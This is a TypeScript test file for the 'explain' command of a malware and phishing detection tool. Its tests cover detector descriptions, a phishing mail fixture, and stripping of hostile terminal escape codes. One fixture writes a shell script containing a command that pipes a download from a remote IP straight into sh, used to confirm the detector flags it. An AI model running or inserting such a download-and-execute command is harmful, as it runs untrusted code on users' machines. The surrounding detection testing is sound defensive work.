// `assay explain`: what a detector claims and why, or where to look.
import assert from 'node:assert/strict'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, test } from 'node:test'
import { PHISH } from '../../server/test/service/mail.ts'
import { captured } from './captured.ts'

const folder = mkdtempSync(join(tmpdir(), 'assay-explain-'))
after(() => rmSync(folder, { recursive: true, force: true }))

function written(name: string, content: string): string {
  const path = join(folder, name)
  writeFileSync(path, content)
  return path
}

test('a detector is explained by what it says of itself', async () => {
  const { code, out } = await captured(['explain', 'html_form'])
  assert.equal(code, 0)
  for (const heading of ['html_form', 'Why it is suspicious', 'Known false positives', 'Measured', 'Weight', 'ATT&CK'])
    assert.ok(out.includes(heading), heading)
})

test('detectors of files and of behaviour as well, and each as JSON', async () => {
  const { code, out } = await captured(['explain', '--json', 'trace_downloads_and_runs', 'eicar_test_file'])
  const entries = out
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line) as { readonly id: string; readonly judges: string })
  assert.equal(code, 0)
  assert.deepEqual(
    entries.map(({ id, judges }) => [id, judges]),
    [
      ['trace_downloads_and_runs', 'behaviour'],
      ['eicar_test_file', 'file'],
    ],
  )
})

test('an unknown id is told with those that hold it', async () => {
  const { code, err } = await captured(['explain', 'dmarc'])
  assert.equal(code, 1)
  assert.match(err, /there is no detector "dmarc"; there is dmarc_failed/)
})

test('without an id all are listed', async () => {
  const { code, out } = await captured(['explain'])
  assert.equal(code, 0)
  assert.ok(out.split('\n').length > 400)
})

test('a mail is judged, and each finding explained beside what stands there', async () => {
  const { code, out } = await captured(['explain', written('report.eml', PHISH)])
  assert.equal(code, 0)
  assert.match(out, /^HIGHLY MALICIOUS {2}\d+ /)
  const { out: answer } = await captured(['analyze', 'mail', join(folder, 'report.eml'), '--json'])
  const { data } = JSON.parse(answer) as { readonly data: { readonly indicators: readonly { readonly id: string }[] } }
  assert.ok(data.indicators.length > 1)
  for (const { id } of data.indicators) assert.ok(out.includes(`  ${id}, type `), id)
  assert.ok(out.includes('Found here ('))
  assert.ok(out.includes('Known false positives'))
})

test('a program is judged as a file', async () => {
  const { code, out } = await captured(['explain', written('setup.sh', '#!/bin/sh\ncurl http://203.0.113.9/x | sh\n')])
  assert.equal(code, 0)
  assert.match(out, /^MALICIOUS /)
  assert.ok(out.includes('Downloads a program and runs it\nFound here (850 points)'))
})

test('a saved answer is explained as it says, also of several and as JSON', async () => {
  const eml = written('saved.eml', PHISH)
  const { out: mail } = await captured(['analyze', 'mail', eml, '--json'])
  const { out: file } = await captured(['analyze', 'file', eml, '--json'])
  const saved = written('answers.json', `${mail}${file}`)
  rmSync(eml)
  const { code, out } = await captured(['explain', saved])
  assert.equal(code, 0)
  assert.equal(out.split(eml).length - 1, 2)
  const { out: json } = await captured(['explain', saved, '--json'])
  const [first] = json.split('\n').map((line) => (line === '' ? null : JSON.parse(line)))
  assert.equal(first.name, eml)
  for (const { id, detector } of first.findings) assert.equal(detector.id, id)
})

test('what a saved answer says is printed, and does nothing else to the terminal', async () => {
  const hostile = {
    data: {
      verdict: { level: 'safe\u001b[2J', score: 'x', summary: 7 },
      indicators: [
        { id: 'no_such\u001b]0;x\u0007', description: 'a\u001b[31mb', evidence: [null, { where: 1 }] },
        null,
        5,
      ],
    },
  }
  const { code, out } = await captured(['explain', written('hostile.json', JSON.stringify(hostile))])
  assert.equal(code, 0)
  assert.doesNotMatch(out, /[\u0000-\u0009\u000b-\u001f\u007f]/)
})

test('what is no answer, and cannot be read, is told', async () => {
  const { code, err } = await captured(['explain', join(folder, 'nothing.eml')])
  assert.equal(code, 1)
  assert.match(err, /nothing\.eml is neither a detector nor a file that can be read/)
})
